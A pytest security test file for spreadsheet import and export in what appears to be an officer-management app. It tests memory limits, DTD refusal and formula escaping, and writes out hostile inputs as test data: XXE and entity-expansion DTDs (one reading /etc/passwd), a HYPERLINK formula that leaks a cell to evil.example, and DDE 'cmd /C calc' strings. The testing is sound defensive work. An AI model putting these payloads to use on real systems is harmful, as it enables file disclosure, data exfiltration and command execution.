"""Findings 14.6 (an .xlsx with an inflated dimension record), 14.16 (an .xlsx with a DTD gave a 500) and
14.11 (formula injection in the officers' .xlsx export): spreadsheets in and out go through app.sheets.

Real .xlsx files made with openpyxl, then edited at the XML level the way an attacker would; the import is
called through the JSON API with a supervisor's bearer token; the export is read back both with openpyxl
and as raw XML (no <f> formula element may appear).
"""
from __future__ import annotations

import io
import re
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from app.extensions import db
from app.sheets import read_xlsx_table
from tests.helpers import bearer
from tests.officers.conftest import world  # noqa: F401 (fixture)

HEAD = ["姓名", "执法主体", "用工性质"]


def workbook(rows, head=HEAD) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(head)
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rewrite_sheet(data: bytes, edit) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = edit(body.decode()).encode()
            dst.writestr(info.filename, body)
    return out.getvalue()


def inflated(data: bytes) -> bytes:
    def edit(xml):
        if "<dimension" in xml:
            return re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
        return xml.replace("<sheetViews>", '<dimension ref="A1:XFD1048576"/><sheetViews>', 1)

    return rewrite_sheet(data, edit)


@pytest.mark.timeout(60)
def test_an_inflated_dimension_record_is_not_believed():
    data = inflated(workbook([["王强", "临江市城市管理行政执法局", "在编"], ["李四", "临江市城市管理行政执法局", "在编"]]))
    assert b"XFD1048576" in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    tracemalloc.start()
    try:
        table = read_xlsx_table(data, max_rows=5000)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert table == [HEAD, ["王强", "临江市城市管理行政执法局", "在编"], ["李四", "临江市城市管理行政执法局", "在编"]]
    assert peak < 20 * 1024 * 1024, peak  # 253 MB before (and the whole 137 GB grid if read to the end)


def _officers(data):
    from app.officers.sheets import read_rows

    return read_rows("officers.xlsx", data)


def _power_list(data):
    from cases.sheets import read_rows

    return read_rows(data)


def _targets(data):
    from inspections.random_checks import parse_targets

    return parse_targets("名录.xlsx", data)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("reader", [_officers, _power_list, _targets], ids=["officers", "power-list", "targets"])
def test_every_importer_ignores_an_inflated_dimension(reader):
    """The class of 14.6: each .xlsx importer (officers and trainings, the power list, the inspection target
    register) reads through app.sheets. Before the fix every row was padded to the 16,384 columns the
    dimension record claims: 300 rows took 40 MB (2,000 rows the reviewer's 253 MB); the target register,
    added later with its own openpyxl call, did the same until it was moved onto app.sheets."""
    head = ["编号", "名称", "类型", "类别", "区划代码", "地址"]
    rows = [[f"T{i}", f"临江市某某商店{i}", "单位", "城市管理", "220681", f"建国街{i}号"] for i in range(300)]
    data = inflated(workbook(rows, head=head))
    tracemalloc.start()
    try:
        try:
            reader(data)
        except Exception as err:  # a refusal of the headers is fine: what matters is what reading cost
            assert getattr(err, "status", None) == 422, err
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * 1024 * 1024, peak


def test_no_module_opens_a_workbook_but_app_sheets():
    """A new importer must not call openpyxl's reader itself (that is how the target register slipped)."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    paths = [p for d in root.iterdir() if d.is_dir() and not d.name.startswith(".") and d.name != "tests"
             for p in d.rglob("*.py")] + list(root.glob("*.py"))
    for path in paths:
        rel = path.relative_to(root).as_posix()
        if rel == "app/sheets.py":
            continue
        if "load_workbook" in path.read_text(encoding="utf-8", errors="replace"):
            offenders.append(rel)
    assert offenders == []


def test_row_limit_stops_the_read_early():
    with pytest.raises(Exception) as err:
        read_xlsx_table(workbook([[f"人{i}", "局", "在编"] for i in range(60)]), max_rows=50)
    assert getattr(err.value, "status", None) == 422 and "50" in err.value.message


@pytest.fixture
def supervisor_token(app, world):
    from app.auth.models import User
    from app.auth.services import issue_token

    with app.app_context():
        raw, _ = issue_token(db.session.get(User, world.supervisor), "pytest")
        db.session.commit()
    return bearer(raw)


def _import(client, headers, data, name="officers.xlsx"):
    return client.post("/api/officers/import", headers=headers,
                       data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/evil.dtd">',
])
def test_an_xlsx_with_a_dtd_is_refused_with_422(app, client, supervisor_token, doctype):
    def edit(xml):
        return xml.replace("?>", "?>" + doctype, 1) if xml.startswith("<?xml") else doctype + xml

    data = rewrite_sheet(workbook([["王强", "临江市城市管理行政执法局", "在编"]]), edit)
    assert b"<!DOCTYPE" in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    resp = _import(client, supervisor_token, data)
    assert resp.status_code == 422, resp.get_data(as_text=True)
    body = resp.get_json()
    assert body["error"] == "invalid_input" and "DTD" in body["message"]


def test_an_inflated_xlsx_imports_through_the_api_like_any_other(app, client, supervisor_token):
    data = inflated(workbook([["", "", ""]]))  # nothing to import: the answer is the ordinary refusal
    resp = _import(client, supervisor_token, data)
    assert resp.status_code == 422 and resp.get_json()["error"] in ("invalid_input", "sheet_invalid")


# --- 14.11: export ---------------------------------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def test_formulas_in_officer_names_are_exported_as_text(app, client, world, supervisor_token):
    from app.auth.models import Agency, User
    from app.officers import services

    with app.app_context():
        actor = db.session.get(User, world.supervisor)
        agency = db.session.get(Agency, world.agency_a)
        for name in PAYLOADS:
            services.create_officer(name=name, agency=agency, employment_type="established", actor=actor)
        db.session.commit()
    resp = client.get("/api/officers/export.xlsx", headers=supervisor_token)
    assert resp.status_code == 200
    sheet_xml = zipfile.ZipFile(io.BytesIO(resp.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(resp.data)).active
    names = {}
    for row in ws.iter_rows(min_row=2):
        cell = row[0]
        names[cell.value] = cell
    for payload in PAYLOADS:
        cell = names[payload]  # shown exactly as written...
        assert cell.data_type == "s" and cell.quotePrefix  # ...and never evaluated, even after editing
